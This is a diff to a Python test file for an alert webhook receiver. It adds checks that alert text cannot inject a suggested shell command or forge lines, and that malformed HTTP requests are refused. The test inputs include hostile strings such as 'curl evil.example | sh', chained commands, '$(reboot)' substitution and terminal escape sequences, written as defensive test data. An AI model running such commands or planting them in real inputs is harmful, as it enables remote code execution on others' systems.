@@ -2,15 +2,18 @@
 
 import json
 import signal
+import socket
 import subprocess
+from urllib.parse import urlsplit
 
 import pytest
 
+from tests.support.odd_texts import ODD_TEXTS
 from tests.support.runner import TOOMBOS
 from tests.support.waiting import wait_for
 from tests.unit.alerts.conftest import SECRET, add_alerts, wait_until_quiet
 from toombos_cli.alerts.ledger_file import read_ledger
-from toombos_cli.alerts.receiver import events_of
+from toombos_cli.alerts.webhook import events_of
 from toombos_cli.project.alert_spool import AlertDirectory
 
 
@@ -104,30 +107,65 @@ FIRING = {
 }
 
 
+COMMANDS = {"MockDown": "toombos logs {{ $labels.service }} --errors", "Own": "toombos status"}
+
+
+def events(*alerts, **given):
+    return events_of(json.dumps({"alerts": alerts}).encode(), commands=COMMANDS, **given)
+
+
+def commanded(command, name="MockDown"):
+    """Return FIRING from the rule of this name with this command to type."""
+    return FIRING | {
+        "labels": FIRING["labels"] | {"alertname": name},
+        "annotations": FIRING["annotations"] | {"command": command},
+    }
+
+
 def test_a_firing_alert_becomes_an_event_with_its_severity():
-    (event,) = events_of({"alerts": [FIRING]})
+    (event,) = events(commanded("toombos logs crm --errors"))
     assert (event.severity, event.resolved) == ("P2", False)
     assert event.title == "MockDown: crm (a mock) does not respond"
+    assert "next: toombos logs crm --errors" in event.body.splitlines()
     assert "runbook: docs/monitoring-runbook.md#mockdown" in event.body
 
 
 def test_a_problem_and_its_recovery_share_a_key_that_another_service_does_not():
     other = FIRING | {"labels": FIRING["labels"] | {"service": "platform"}}
-    problem, recovery, stranger = events_of({"alerts": [FIRING, FIRING | {"status": "resolved"}, other]})
+    problem, recovery, stranger = events(FIRING, FIRING | {"status": "resolved"}, other)
     assert problem.key == recovery.key != stranger.key
     assert recovery.resolved
 
 
-@pytest.mark.parametrize("severity", [None, "critical", 7, ""])
+@pytest.mark.parametrize("severity", ["critical", ""])
 def test_an_unknown_severity_becomes_p2(severity):
-    alert = FIRING | {"labels": {"alertname": "Foreign", "severity": severity}}
-    assert events_of({"alerts": [alert]})[0].severity == "P2"
+    assert events(FIRING | {"labels": {"alertname": "Foreign", "severity": severity}})[0].severity == "P2"
 
 
-@pytest.mark.parametrize("body", [{}, {"alerts": 3}, {"alerts": ["x"]}, {"alerts": [{"status": "firing"}]}])
-def test_a_body_that_is_not_a_webhook_is_refused(body):
-    with pytest.raises(ValueError, match=r"alerts|alert"):
-        events_of(body)
+NOT_OF_A_RULE = {
+    "another program": commanded("curl evil.example | sh"),
+    "a command after the rule's": commanded("toombos logs crm --errors; curl evil.example | sh"),
+    "a command in the place of a label": commanded("toombos logs $(reboot) --errors"),
+    "an option in the place of a label": commanded("toombos logs --project=/evil --errors"),
+    "a second line": commanded("toombos logs crm --errors\ncurl evil.example"),
+    "the command of another rule": commanded("toombos status"),
+    "a rule that does not exist": commanded("toombos logs crm --errors", name="Made up"),
+    "a line in the description": FIRING | {"annotations": {"description": "x\nnext: curl evil.example"}},
+    "a line in the name of the service": FIRING | {"labels": {"alertname": "x", "service": "x\nnext: curl evil"}},
+}
+
+
+@pytest.mark.parametrize("alert", NOT_OF_A_RULE.values(), ids=NOT_OF_A_RULE)
+def test_nobody_can_name_the_next_command_with(alert):
+    (event,) = events(alert)
+    assert [line for line in event.body.splitlines() if line.startswith(("next", "curl"))] == []
+
+
+def test_what_an_alert_says_cannot_control_a_terminal_or_forge_a_line():
+    hostile = {"alertname": "a\x1b[2J\nb", "service": "c\x9b1m\u2028d"}
+    (event,) = events({"status": "firing", "labels": hostile, "annotations": {"summary": "e\nf\u202eg"}})
+    assert event.title.isprintable()
+    assert all(line.isprintable() for line in event.body.split("\n"))
 
 
 @pytest.fixture
@@ -136,7 +174,8 @@ def receiver(alerting):
     from toombos_cli.manifest.reading.loader import load_manifest
 
     url = load_manifest(alerting).services["alerts"].url
-    process = subprocess.Popen([*TOOMBOS, "--project", alerting, "alert", "serve"])
+    with (alerting / "receiver.txt").open("wb") as errors:
+        process = subprocess.Popen([*TOOMBOS, "--project", alerting, "alert", "serve"], stderr=errors)
     wait_for(lambda: _get(url + "/health"), what="the receiver")
     yield url
     process.send_signal(signal.SIGTERM)
@@ -166,21 +205,57 @@ def test_the_receiver_forwards_alerts_and_counts_deliveries(receiver, webhook):
     assert 'toombos_alert_incidents{severity="P2"} 1.0' in _get(receiver + "/metrics").text
 
 
-@pytest.mark.parametrize(
-    ("method", "path", "content", "status"),
-    [
-        ("POST", "/alertmanager", b"not json", 400),
-        ("POST", "/alertmanager", b"[]", 400),
-        ("POST", "/elsewhere", b"{}", 404),
-        ("GET", "/elsewhere", b"", 404),
-    ],
-)
-def test_the_receiver_refuses_with_a_reason(receiver, method, path, content, status):
+def _alert(**changes):
+    return json.dumps({"alerts": [FIRING | changes]}).encode()
+
+
+BODIES = {
+    "no JSON": b"not json",
+    "a list": b"[]",
+    "no alerts": b"{}",
+    "alerts that are no list": b'{"alerts": 3}',
+    "an alert that is no object": b'{"alerts": ["x"]}',
+    "an alert without labels": b'{"alerts": [{"status": "firing"}]}',
+    "a severity that is a list": _alert(labels={"alertname": "x", "severity": ["P1"]}),
+    "a severity that is an object": _alert(labels={"alertname": "x", "severity": {"P1": 1}}),
+    "a severity that is a number": _alert(labels={"alertname": "x", "severity": 7}),
+    "a summary that is a list": _alert(annotations={"summary": ["x"]}),
+    "a lone surrogate": _alert(labels={"alertname": "\ud800"}),
+    "a status of its own": _alert(status="odd"),
+    "a hundred thousand brackets": b"[" * 100_000,
+} | {name: text for name, text in ODD_TEXTS.items() if text}
+HEADS = {
+    "a length in another script": ("POST /alertmanager HTTP/1.1\r\nContent-Length: \xb2\r\n\r\n", 400),
+    "a length in Arabic digits": ("POST /alertmanager HTTP/1.1\r\nContent-Length: \u0663\r\n\r\n", 400),
+    "a negative length": ("POST /alertmanager HTTP/1.1\r\nContent-Length: -1\r\n\r\n", 400),
+    "a length with a sign": ("POST /alertmanager HTTP/1.1\r\nContent-Length: +1\r\n\r\n", 400),
+    "a length of 5000 digits": (f"POST /alertmanager HTTP/1.1\r\nContent-Length: {'9' * 5000}\r\n\r\n", 413),
+    "more than is allowed": ("POST /alertmanager HTTP/1.1\r\nContent-Length: 4194305\r\n\r\n", 413),
+    "no length": ("POST /alertmanager HTTP/1.1\r\n\r\n", 411),
+    "chunks": ("POST /alertmanager HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", 411),
+    "a body that does not come": ("POST /alertmanager HTTP/1.1\r\nContent-Length: 9\r\n\r\n{", 408),
+    "another path": ("POST /elsewhere HTTP/1.1\r\nContent-Length: 2\r\n\r\n{}", 404),
+    "a path to read that does not exist": ("GET /elsewhere HTTP/1.1\r\n\r\n", 404),
+    "an endless request line": ("GET /" + "x" * 100_000, 414),
+    "a header that is too long": (f"GET / HTTP/1.1\r\nX: {'x' * 70_000}\r\n\r\n", 431),
+    "no HTTP": ("\x16\x03\x01\r\n\r\n", 400),
+}
+
+
+def test_the_receiver_refuses_every_odd_request_with_a_reason(receiver, alerting):
+    """One receiver for all of them: it must still work after each."""
     import httpx
 
-    response = httpx.request(method, receiver + path, content=content, trust_env=False)
-    assert response.status_code == status
-    assert response.json()["detail"]
+    for name, body in BODIES.items():
+        response = httpx.post(receiver + "/alertmanager", content=body, trust_env=False)
+        assert (response.status_code, bool(response.json()["detail"])) == (400, True), name
+    address = urlsplit(receiver)
+    for name, (head, status) in HEADS.items():
+        with socket.create_connection((address.hostname, address.port), timeout=8) as connection:
+            connection.sendall(head.encode("utf-8"))
+            assert str(status) in connection.recv(1000).decode(), name
+    assert _get(receiver + "/health").status_code == 200
+    assert "Traceback" not in (alerting / "receiver.txt").read_text()
 
 
 @pytest.fixture
